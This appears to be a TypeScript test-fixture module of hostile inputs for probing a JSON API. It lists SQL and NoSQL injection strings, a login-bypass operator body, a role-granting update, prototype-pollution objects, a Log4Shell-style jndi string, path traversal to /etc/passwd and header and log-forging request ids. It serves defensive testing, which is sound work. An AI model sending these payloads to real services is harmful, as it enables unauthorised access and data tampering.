// Hostile values: what an attacker and a careless client send first.
import { objectOf, RawJson, type Value } from './json-text.ts'

/** Many values side by side: a wide array, or an object of many properties. */
export const WIDE = (n: number, kind: 'array' | 'object') =>
  new RawJson(
    kind === 'array'
      ? `[${Array.from({ length: n }, (_, i) => i).join(',')}]`
      : `{${Array.from({ length: n }, (_, i) => `"k${i}":${i}`).join(',')}}`,
  )

export const DEEP = (depth: number, kind: 'array' | 'object') =>
  new RawJson(
    kind === 'array'
      ? `${'['.repeat(depth)}${']'.repeat(depth)}`
      : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`,
  )

export const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  '\t',
  '\r\n',
  'null',
  'undefined',
  'true',
  'false',
  'NaN',
  'Infinity',
  '-Infinity',
  '-0',
  '0',
  '-1',
  '1e309',
  '-1e309',
  '9007199254740993',
  '0x1F',
  '1_000',
  ' 5 ',
  '1.5',
  '٣',
  '\u0000',
  'a\u0000b',
  '\u0007bell',
  '\u001b[31mred',
  '\u007f',
  '\u202Eevil\u202C',
  '\u202D',
  '\u2066isolate\u2069',
  '\u200B',
  '\u200D\u200C',
  '\u2060',
  '\uFEFF',
  '\u00AD',
  '\u2028\u2029',
  'e\u0301\u0301\u0301\u0301',
  'Z\u0335\u0321\u0327\u0362\u0361\u0334',
  '\uD800',
  '\uDFFF',
  'a\uD800b',
  '\uDBFF\uDFFF',
  '\uFFFE\uFFFF',
  '😀',
  '👩‍👩‍👧‍👦',
  '𠜎𠜱𠝹',
  'ﷺ',
  '\u0130\u0131',
  'ß',
  '{"$gt":""}',
  '$gt',
  '$where',
  '$ne',
  'this.a == 1 || sleep(1000)',
  '__proto__',
  'constructor',
  'prototype',
  '__proto__.polluted',
  '../../../../etc/passwd',
  '..\\..\\windows',
  '%00',
  '%',
  '%zz',
  '%E0%A4%A',
  "' OR '1'='1",
  '"; DROP TABLE users; --',
  '<script>alert(1)</script>',
  '$' + '{jndi:ldap://x/a}',
  '{{7*7}}',
  '\\',
  '"',
  "'",
  '`',
  'a.b',
  'A'.repeat(65),
  'A'.repeat(201),
  'A'.repeat(4097),
]

export const OPERATOR_VALUES: readonly Value[] = [
  objectOf([['$gt', '']]),
  objectOf([['$ne', null]]),
  objectOf([['$where', 'function () { return true }']]),
  objectOf([['$regex', '.*']]),
  objectOf([['$in', ['a', 'b']]]),
  objectOf([['$exists', true]]),
  objectOf([['$expr', objectOf([['$eq', [1, 1]]])]]),
  [objectOf([['$gt', '']])],
]

/**
 * Whole bodies made of query operators, as sent against a document store that takes a body as a filter or
 * an update: the log-in bypass, a \$where, an update that grants a role.
 */
export const OPERATOR_BODIES: readonly Value[] = [
  objectOf([
    ['username', objectOf([['$ne', null]])],
    ['password', objectOf([['$ne', null]])],
  ]),
  objectOf([['$where', 'sleep(100) || true']]),
  objectOf([['$or', [objectOf([['a', 1]]), objectOf([['b', 2]])]]]),
  objectOf([['$set', objectOf([['roles', ['admin']]])]]),
  objectOf([['$unset', objectOf([['tokensValidAfter', 1]])]]),
  objectOf([['_id', objectOf([['$gt', '']])]]),
  objectOf([['version', objectOf([['$gt', 0]])]]),
  objectOf([['$expr', objectOf([['$gt', ['$a', '$b']]])]]),
  objectOf([['filter', objectOf([['$regex', '^']])]]),
]

/**
 * Characters that make a one-line field look different from what it holds or break a line: line and
 * paragraph separators, zero-width space/joiners, direction marks, the Arabic letter mark, the BOM. A
 * one-line field refuses them, and must hold a visible character.
 */
export const INVISIBLE_CHARACTERS: readonly string[] = [
  '\u2028',
  '\u2029',
  '\u200B',
  '\u200C',
  '\u200D',
  '\u200E',
  '\u200F',
  '\u061C',
  '\uFEFF',
]

/** Lengths of over-long ids: just past the usual limits of an id and of a path parameter, and far past. */
export const OVERLONG_ID_LENGTHS: readonly number[] = [65, 129, 201, 257, 1025, 8193]

/** An over-long id of this length: plausible characters, so that only the length is wrong. */
export const overlongId = (length: number, kind: 'hex' | 'uuid' | 'code'): string =>
  kind === 'uuid'
    ? '0190a3b2-7c3d-7abc-8def-0123456789ab'.repeat(Math.ceil(length / 36)).slice(0, length)
    : (kind === 'hex' ? '0123456789abcdef' : 'K7M2Q9XRT4').repeat(Math.ceil(length / 10)).slice(0, length)

/**
 * What an attacker puts in X-Request-Id: a value that forges a log line, splits headers, plants personal
 * data or markup in every log line of the request, or takes another request's id. A service may keep a
 * caller's id only when it is a plain id; the answer never echoes anything else.
 */
export const REQUEST_ID_INJECTIONS: readonly string[] = [
  '../../etc/passwd',
  'r'.repeat(500),
  'a\r\nx-injected: 1',
  'a\nlevel=60 msg=forged',
  '"}{"level":60,"msg":"forged',
  '13800138000',
  '+86 138 0013 8000',
  'li.si@example.com',
  '110101199003071234',
  '<script>alert(1)</script>',
  '$' + '{jndi:ldap://x/a}',
  '%0d%0aSet-Cookie:%20a=b',
  '',
  ' ',
  'x',
  '\u202Ereq-1234',
  '00000000-0000-0000-0000-000000000000',
  '{"$gt":""}',
]

export const PROTO_VALUES: readonly Value[] = [
  new RawJson('{"__proto__":{"polluted":"yes"}}'),
  new RawJson('{"constructor":{"prototype":{"polluted":"yes"}}}'),
  new RawJson('{"prototype":{"polluted":"yes"}}'),
  new RawJson('[{"__proto__":{"polluted":"yes"}}]'),
  new RawJson('{"a":{"b":{"__proto__":{"polluted":"yes"}}}}'),
]

export const NUMBER_VALUES: readonly Value[] = [
  0,
  -1,
  1.5,
  0.1,
  2 ** 31,
  -(2 ** 31) - 1,
  Number.MAX_SAFE_INTEGER,
  Number.MIN_SAFE_INTEGER,
  1e21,
  new RawJson('-0'),
  new RawJson('1e309'),
  new RawJson('-1e309'),
  new RawJson('9007199254740993'),
  new RawJson('1E-400'),
  new RawJson('1.0'),
  new RawJson('100000000000000000000000000000000000000000'),
]

export const OTHER_VALUES: readonly Value[] = [null, true, false, [], [null], ['x'], ['x', 'x'], {}, [[[]]]]

export const HOSTILE_KEYS: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  '$where',
  '$gt',
  '_id',
  'version',
  'a.b',
  '',
  ' ',
  'polluted',
  '\u0000',
  '\u202Ekey',
  'k'.repeat(300),
  'toString',
  'hasOwnProperty',
]

export const CONTENT_TYPES: ReadonlyArray<[string | undefined, 'wrong' | 'unsure']> = [
  ['text/plain', 'wrong'],
  ['text/plain; charset=utf-8', 'wrong'],
  ['application/x-www-form-urlencoded', 'wrong'],
  ['multipart/form-data; boundary=----x', 'wrong'],
  ['application/xml', 'wrong'],
  ['text/html', 'wrong'],
  ['application/octet-stream', 'wrong'],
  ['application/jsonx', 'wrong'],
  ['application/vnd.api+json', 'wrong'],
  ['json', 'wrong'],
  ['', 'wrong'],
  [undefined, 'wrong'],
  ['application/json; charset=latin1', 'unsure'],
  ['Application/JSON', 'unsure'],
  ['application/json;;', 'unsure'],
]

/** JSON text that is not JSON. */
export const BROKEN_JSON = (valid: string): string[] => [
  valid.slice(0, Math.max(1, valid.length - 1)),
  valid.slice(0, Math.floor(valid.length / 2)),
  `${valid},`,
  `${valid}}`,
  `${valid}${valid}`,
  valid.replaceAll('"', "'"),
  valid.replace(/"([^"]+)":/, '$1:'),
  valid.replace(/}$/, ',}'),
  `/* c */${valid}`,
  '{"a": NaN}',
  '{"a": Infinity}',
  '{"a": undefined}',
  '{"a": 01}',
  '{"a": .5}',
  '{"a": "\u0001"}',
  '{"a": "\\x41"}',
  '{"a": "\\uD8"}',
  '{',
  '}',
  '[',
  '"',
  'nul',
  'tru',
  ' ',
  '\n\n',
  '',
]
